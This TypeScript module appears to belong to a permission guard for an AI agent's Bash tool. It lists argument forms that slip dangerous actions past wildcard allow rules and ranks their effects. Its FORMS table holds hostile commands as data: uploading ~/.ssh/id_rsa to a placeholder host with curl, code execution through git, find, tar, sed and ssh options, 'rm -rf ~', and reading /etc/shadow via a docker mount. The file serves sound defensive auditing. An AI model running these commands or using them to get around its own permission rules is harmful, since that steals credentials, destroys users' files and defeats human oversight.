// The worst command that an allow rule of Bash lets through: forms that fit it are tried, and our own evaluator says what each would do.
import { deriveEffects } from "#guard/effects/derive.ts";
import { describeEffect } from "#guard/effects/describe.ts";
import { FactReader } from "#guard/facts/fact-reader.ts";
import type { Facts } from "#guard/facts/facts.ts";
import { compileCommandRule } from "#guard/native/command-rule.ts";
import type { ToolCall } from "#guard/toolcall/tool-call.ts";
import type { Effect } from "#guard/vocabulary/effect.ts";

/** A command that fits a rule, and the worst that it does, in words. */
export type WorstCommand = { readonly command: string; readonly does: string };

/** Steps that the evaluation of one form may take; a form that takes more is passed over. */
const STEPS_MAX = 20_000;
const RULE_CHARS_MAX = 300;
const HOME = "/home/user";
const PROJECT = `${HOME}/project`;
/** The program of somebody's choosing, a key, a file that a shell runs, a place that data go to. */
const CODE = "./x";
const KEY = "~/.ssh/id_rsa";
const START = `${HOME}/.bashrc`;
const ELSEWHERE = "https://example.org";

/** What may stand where a rule leaves room: by program, from its manual; what any program may be given is last. */
const FORMS: readonly (readonly [programs: string, forms: readonly string[]])[] = [
  ["go", [`-vettool=${CODE} ./...`, `-toolexec=${CODE} ./...`, `-exec ${CODE} ./...`]],
  [
    "git",
    [
      `--output=${START}`,
      // Without the setting git refuses this transport (git-config(1), `protocol.allow`).
      `-c protocol.ext.allow=always 'ext::sh -c ${CODE}' y`,
      `--upload-pack=${CODE} .`,
      `--receive-pack=${CODE} .`,
      `-O${CODE} a`,
      `--exec=${CODE} main`,
      `-c core.pager=${CODE} -p log`,
      `-c alias.z='!${CODE}' z`,
      "--hard HEAD~9",
      "--force origin main",
    ],
  ],
  ["find fd", [`. -exec ${CODE} {} +`, `-exec ${CODE} {} +`, ". -delete", `-x ${CODE}`]],
  ["xargs env nice timeout time nohup", [CODE, `-I{} ${CODE} {}`, KEY, "rm -rf ~"]],
  ["tar", [`xf a.tar --to-command=${CODE}`, `--to-command=${CODE} -xf a.tar`, `czf - ${KEY}`]],
  ["rg grep", [`--pre ${CODE} .`, `. ${KEY}`]],
  ["sed awk gawk", [`'1e ${CODE}' a`, `'BEGIN{system("${CODE}")}'`, `-i 1d ${START}`]],
  ["sort", [`-o ${START} a`, `--compress-program=${CODE} a`]],
  ["mvn mvnw ./mvnw", [`exec:exec -Dexec.executable=${CODE}`]],
  ["gradle gradlew ./gradlew", [`-I ${CODE} build`, `-b ${CODE}`]],
  ["make gmake", [`-f ${CODE}`, `SHELL=${CODE}`]],
  [
    "node deno bun tsx",
    ["../../x.js", "-r ./x.js a", `-e 'require("child_process").execSync("${CODE}")'`],
  ],
  ["python python3", ["../x.py", `-c 'import os; os.system("${CODE}")'`]],
  [
    "curl wget http https",
    [
      `-T ${KEY} ${ELSEWHERE}`,
      `--post-file=${KEY} ${ELSEWHERE}`,
      `-d @${KEY} ${ELSEWHERE}`,
      `-o ${START} ${ELSEWHERE}`,
    ],
  ],
  ["ssh scp rsync sftp", [`-oProxyCommand=${CODE} h`, `-e ${CODE} a h:b`, `${KEY} example.org:`]],
  ["docker podman", [`run -v /:/host alpine cat /host/etc/shadow`, "-v /:/host alpine sh"]],
  ["npm npx pnpm yarn bunx", [`exec -c ${CODE}`, `-c ${CODE}`, `--prefix ~ run x`]],
  ["cp mv ln tee install", [`a ${START}`, START, `${KEY} a`]],
  ["rm", ["-rf ~"]],
  [
    "jest vitest pytest eslint prettier mocha tsc",
    [`--config ${CODE}.js`, `-c ${CODE}.js`, `-p ${CODE}`, `--output-file ${START}`, `-o ${START}`],
  ],
];
const ANY: readonly string[] = [CODE, KEY];

/** The worst of the forms that fit a rule; undefined where none does more than what the rule names, as far as our evaluator knows. */
export function worstCommand(subject: string | undefined): WorstCommand | undefined {
  const text = (subject ?? "*").trim();
  if (text.length > RULE_CHARS_MAX || !text.includes("*") || text.includes("\n")) return undefined;
  const rule = compileCommandRule(text);
  // A rule for all commands lets through what is worst of all.
  const named = /^(?:\*+|:\*)$/.test(text) ? ["rm -rf ~"] : formsOf(text);
  let worst:
    | { readonly command: string; readonly effect: Effect; readonly rank: number }
    | undefined;
  for (const command of named) {
    if (subject !== undefined && !/^[:*]+$/.test(text) && !rule.matches(command)) continue;
    for (const effect of effectsOf(command)) {
      const rank = rankOf(effect);
      if (rank > (worst?.rank ?? 0)) worst = { command, effect, rank };
    }
  }
  if (worst === undefined) return undefined;
  return { command: worst.command, does: describeEffect(worst.effect).replaceAll(HOME, "~") };
}

function formsOf(text: string): readonly string[] {
  const at = text.search(/:?\*/);
  const before = text.slice(0, at);
  const after = text.slice(at).replace(/^:?\*/, "").replaceAll(/:?\*/g, "x");
  // A rule that begins with a star: any program may stand there.
  const first = before.trim().split(/\s+/)[0] ?? "";
  const program = first.replace(/^.*\/(?=[^/]+$)/, "");
  const own = FORMS.flatMap(([programs, forms]) =>
    programs.split(" ").some((name) => name === program || name === first) ? forms : [],
  );
  // Words between the program and what is open may be a program of their own: `xargs cat`.
  const gap = before === "" || /[\s/=]$/.test(before) ? "" : " ";
  return [...own, ...ANY].map((form) => `${before}${gap}${form}${after}`);
}

function effectsOf(command: string): readonly Effect[] {
  const call = {
    id: "",
    tool: "Bash",
    cwd: PROJECT,
    input: { kind: "bash", command, background: false, sandboxOff: false },
  } as const satisfies ToolCall;
  try {
    const reader = new FactReader(FACTS.answers);
    const { effects, unseen, programs } = deriveEffects(call, FACTS, reader, STEPS_MAX);
    // What is only counted or compared shows nothing of a key, and version control takes no file from outside.
    const showsNothing = programs.includes("git") || unseen.size > 0;
    return showsNothing ? effects.filter(({ kind }) => kind !== "read") : effects;
  } catch {
    // WHY nothing: it took more steps than a form is worth, and the others are tried.
    return [];
  }
}

/** A machine of which nothing is known: what a form does there it does anywhere. */
const FACTS: Facts = {
  session: {
    sessionId: "",
    projectRoot: PROJECT,
    home: HOME,
    user: "user",
    mode: "default",
    interactive: true,
    ownPaths: [],
  },
  shell: {
    dialect: "bash",
    known: true,
    functions: new Map(),
    aliases: new Map(),
    options: new Set(),
    variables: new Map(),
  },
  holds: { quarantined: false, reason: undefined },
  writtenPaths: new Set(),
  answers: new Map(),
};

/** How bad an effect is of those that a form is there for; 0 for all others: they are what the rule names. */
function rankOf(effect: Effect): number {
  const words = describeEffect(effect);
  switch (effect.kind) {
    case "delete":
      return words.includes(`\`${HOME}\``) || words.includes(`\`${HOME}/\``) ? 9 : 0;
    case "execute":
      return effect.reach === "unbounded" && /`[^`]*\bx(?:\.js|\.py)?`/.test(words) ? 8 : 0;
    case "egress":
      return words.includes("id_rsa") ? 7 : 0;
    case "persist":
      return words.includes(".bashrc") ? 6 : 0;
    case "write":
      return words.includes(".bashrc") ? 5 : 0;
    case "read":
      return words.includes("id_rsa") || words.includes("/etc/shadow") ? 4 : 0;
    case "history":
      return 3;
    case "unknown":
    case "publish":
    case "deploy":
    case "install":
    case "privilege":
    case "tamper":
      return 0;
    default:
      return effect satisfies never;
  }
}
